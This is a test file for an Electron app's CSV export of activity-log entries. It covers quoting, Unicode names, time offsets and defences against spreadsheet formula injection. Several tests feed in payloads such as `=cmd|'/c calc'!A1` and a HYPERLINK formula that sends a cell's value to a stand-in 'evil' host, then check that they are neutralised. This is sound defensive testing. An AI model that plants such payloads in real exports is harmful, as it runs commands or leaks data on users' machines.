import { describe, expect, it } from 'vitest';
import { activityCsv, isoTime } from '../../electron/activity/csv.ts';
import { done, entryOf, type Unended } from '../../electron/activity/noting.ts';
import type { ActivityRow } from '../../electron/contract/activity-entry.ts';

const at = Date.UTC(2026, 10, 22, 7, 33, 26);

/** A reader of RFC 4180, written from the RFC. */
function parse(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let rest = text;
  while (rest !== '') {
    const [whole = '', quoted, plain] = /^(?:"((?:[^"]|"")*)"|([^",\r\n]*))(?:,|\r\n)/.exec(rest) ?? [];
    if (whole === '') throw new Error(`not CSV: ${rest.slice(0, 40)}`);
    record.push(quoted?.replaceAll('""', '"') ?? plain ?? '');
    if (whole.endsWith('\r\n')) {
      records.push(record);
      record = [];
    }
    rest = rest.slice(whole.length);
  }
  return records;
}

function csvOf(rows: readonly ActivityRow[]): Record<string, string>[] {
  const text = Buffer.from(activityCsv(rows)).toString('utf8');
  expect(text.startsWith('\uFEFF')).toBe(true);
  const [header = [], ...records] = parse(text.slice(1));
  return records.map((record) => {
    expect(record).toHaveLength(header.length);
    return Object.fromEntries(header.map((name, index) => [name, record[index] ?? '']));
  });
}

function row(number: number, part: Partial<Extract<Unended, { act: 'hand-over' }>>): ActivityRow {
  const handOver: Unended = {
    ...{ act: 'hand-over', who: 'person', profile: 'anaf', accountId: 'a', name: 'Firma SRL' },
    ...{ recipient: 'SAGA', means: 'file', ...part },
  };
  return { kind: 'entry', number, entry: entryOf({ ...handOver, ...done }, at) };
}

describe('the CSV', () => {
  it('has every field under its name, and gaps', () => {
    const [first, gap] = csvOf([row(1, {}), { kind: 'gap', from: 2, to: 5 }]);
    expect(first).toMatchObject({
      ...{ number: '1', epochMs: String(at), who: 'person', act: 'hand-over', profile: 'anaf', accountId: 'a' },
      ...{ name: 'Firma SRL', recipient: 'SAGA', means: 'file', result: 'ok', authorityError: '', status: '' },
    });
    expect(new Date(first?.['time'] ?? '').getTime()).toBe(at);
    expect(gap).toMatchObject({ number: '2', numberTo: '5', act: 'missing-or-unreadable', time: '' });
  });

  it('gives back any line whole', () => {
    for (const name of ['Ion, "Ana" & Fiii', 'Åström Öst', '"', ',', "O'Neill", '١٢']) {
      expect(csvOf([row(1, { name })])[0]?.['name']).toBe(name);
    }
  });

  it('gives a spreadsheet no formula', () => {
    for (const start of ['=', '+', '-', '@', '＝', '＋', '－', '＠']) {
      const name = `${start}cmd|'/c calc'!A1`;
      expect(csvOf([row(1, { name, recipient: name })])[0]).toMatchObject({ name: `'${name}`, recipient: `'${name}` });
    }
    const entry = row(1, {});
    const tabbed = {
      ...entry,
      entry: { ...(entry.kind === 'entry' ? entry.entry : null), name: '\t=1' },
    } as ActivityRow;
    expect(csvOf([tabbed])[0]?.['name']).toBe("' =1");
  });

  it('begins no other line or cell within a text, where a semicolon separates cells too', () => {
    const name = 'Cabinet;=HYPERLINK("http://evil/"&A1)';
    const recipient = 'SAGA\r\n=cmd|calc\u2028\u0000;-1';
    const [first] = csvOf([row(1, { name, recipient })]);
    expect(first).toMatchObject({ name: 'Cabinet =HYPERLINK("http://evil/"&A1)', recipient: 'SAGA  =cmd|calc   -1' });
    expect(csvOf([row(1, { name: ';=1' })])[0]?.['name']).toBe("' =1");
  });

  it('writes times with their distance from UTC', () => {
    expect(isoTime(at, 120)).toBe('2026-11-22T09:33:26+02:00');
    expect(isoTime(at, 0)).toBe('2026-11-22T07:33:26+00:00');
    expect(isoTime(at, -210)).toBe('2026-11-22T04:03:26-03:30');
  });
});
